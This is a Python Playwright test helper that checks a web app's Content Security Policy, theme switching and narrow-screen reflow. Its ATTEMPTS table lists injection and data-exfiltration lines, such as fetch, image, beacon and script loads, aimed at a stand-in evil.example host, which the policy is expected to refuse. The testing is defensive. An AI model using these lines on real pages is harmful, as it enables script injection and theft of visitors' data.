"""A browser of which it is known what violates a page's policy, and which page is too wide."""

from collections.abc import Iterable

from playwright.sync_api import Browser, ConsoleMessage

from tests.e2e.conftest import PATIENCE_MS

REPORT = """
document.addEventListener("securitypolicyviolation", (e) =>
  violated(`${e.effectiveDirective} ${e.blockedURI} at ${location.pathname} ${e.sample}`));
"""
# React has taken the page over, and what it shows has been read.
IS_DRAWN = """() => {
  const main = document.querySelector("main");
  return main && Object.keys(main).some((key) => key.startsWith("__react"))
    && !document.querySelector("[aria-busy=true]");
}"""
HEARD = """
document.addEventListener("securitypolicyviolation", (e) => refused(e.effectiveDirective),
  { once: true })
"""
GO = """async (path) => {
  await __reactRouterDataRouter.navigate(path);
  return location.pathname;
}"""
NARROWEST = 320  # to which text has to reflow (WCAG 2.2, 1.4.10)
IS_TOO_WIDE = f"document.documentElement.scrollWidth > {NARROWEST}"
THEME = "document.documentElement.dataset.theme"
# What somebody who got a foothold in a page would try, and which part of the policy refuses it.
ATTEMPTS = {
    "script-src-elem": (
        "const s = document.createElement('script'); s.text = 'ran = 1'; document.body.append(s)",
        "const s = document.createElement('script'); s.src = 'https://evil.example/a.js';"
        " document.body.append(s)",
        "import('https://evil.example/a.js').catch(() => 0)",
        "import('data:text/javascript,ran=1').catch(() => 0)",
    ),
    "script-src-attr": ("document.body.setAttribute('onclick', 'ran = 1'); document.body.click()",),
    "script-src": ("setTimeout('ran = 1')",),
    "style-src-elem": (
        "document.body.insertAdjacentHTML('beforeend', '<style>a{}</style>')",
        "document.body.insertAdjacentHTML('beforeend',"
        " '<link rel=stylesheet href=https://evil.example/a.css>')",
    ),
    "style-src-attr": ("document.body.insertAdjacentHTML('beforeend', '<a style=\"top:0\">')",),
    "img-src": (
        "new Image().src = 'https://evil.example/?stolen'",
        "new Image().src = 'data:image/svg+xml,<svg/>'",
    ),
    "connect-src": (
        "fetch('https://evil.example/?stolen').catch(() => 0)",
        "try { new WebSocket('wss://evil.example/') } catch {}",
        "navigator.sendBeacon('https://evil.example/')",
    ),
    "frame-src": (
        "const f = document.createElement('iframe'); f.src = 'https://evil.example/';"
        " document.body.append(f)",
    ),
    "object-src": (
        "const o = document.createElement('object'); o.data = 'https://evil.example/a';"
        " document.body.append(o)",
    ),
    "worker-src": ("try { new Worker('data:text/javascript,1') } catch {}",),
    "form-action": (
        "const f = document.createElement('form'); f.action = 'https://evil.example/';"
        " document.body.append(f); f.submit()",
    ),
    "base-uri": (
        "const b = document.createElement('base'); b.href = 'https://evil.example/';"
        " document.head.append(b)",
    ),
}


class Watched:
    """The browser of one visitor."""

    def __init__(self, browser: Browser) -> None:
        self.violations: list[str] = []
        self.too_wide: list[str] = []
        self.context = browser.new_context(viewport={"width": 1440, "height": 900})
        self.context.expose_function("violated", self._violated)
        self.context.add_init_script(REPORT)
        self.page = self.context.new_page()
        self.page.set_default_timeout(PATIENCE_MS)
        self.page.on("console", self._console)
        # React draws a page anew that is not what was built, and who looks at it sees it flicker.
        self.page.on("pageerror", lambda error: self._violated(f"{self.page.url} {error}"))

    def walk(self, origin: str, paths: Iterable[str]) -> None:
        """Open every page, and look at it in the other theme, too."""
        for path in paths:
            self.page.goto(origin + path)
            self._look()

    def stroll(self, paths: Iterable[str]) -> None:
        """Go from page to page as links do, without leaving the document."""
        self.page.wait_for_function(IS_DRAWN)
        for path in paths:
            assert self.page.evaluate(GO, path) == path
            self._look()

    def _look(self) -> None:
        self.page.wait_for_function(IS_DRAWN)
        button = self.page.get_by_role("button", name="Theme", exact=True)
        if button.count():
            before = self.page.evaluate(THEME)
            button.click()
            other = "Light" if before == "dark" else "Dark"
            self.page.get_by_role("radio", name=other).locator("visible=true").check()
            self.page.wait_for_function(f"before => {THEME} !== before", arg=before)
            self.page.keyboard.press("Escape")
        self._narrow()

    def _narrow(self) -> None:
        """Note whether the page would have to be moved sideways on a small phone."""
        wide = self.page.viewport_size
        self.page.set_viewport_size({"width": NARROWEST, "height": 640})
        if self.page.evaluate(IS_TOO_WIDE):
            self.too_wide.append(self.page.url)
        self.page.set_viewport_size(wide or {"width": 1440, "height": 900})

    def try_to(self, attempt: str) -> str:
        """Which part of the policy refused it; waits until one has."""
        return self.page.evaluate(f"() => new Promise((refused) => {{ {HEARD}; {attempt} }})")

    def _violated(self, what: str) -> None:
        self.violations.append(what)

    def _console(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            self.violations.append(message.text)
